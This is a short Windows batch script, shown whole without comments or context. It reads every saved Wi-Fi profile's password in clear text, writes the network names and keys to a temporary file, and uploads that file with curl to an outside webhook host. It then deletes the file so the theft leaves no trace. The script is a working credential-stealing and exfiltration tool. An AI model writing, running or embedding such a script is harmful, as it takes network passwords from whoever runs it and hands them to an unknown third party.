@echo off
setlocal EnableDelayedExpansion
set "F=%TEMP%\wl_%COMPUTERNAME%.txt"
type nul > "%F%"
for /f "tokens=2 delims=:" %%a in ('netsh wlan show profiles ^| findstr /c:"All User Profile"') do (
    set "SSID=%%a"
    set "SSID=!SSID:~1!"
    for /f "tokens=2 delims=:" %%k in ('netsh wlan show profile name^="!SSID!" key^=clear ^| findstr /c:"Key Content"') do (
        echo !SSID! :%%k>> "%F%"
    )
)
curl -s -X POST -H "Content-Type: text/plain" --data-binary "@%F%" "https://hooks.exfil.invalid/w/8c1e0f2a"
del /q "%F%"
endlocal
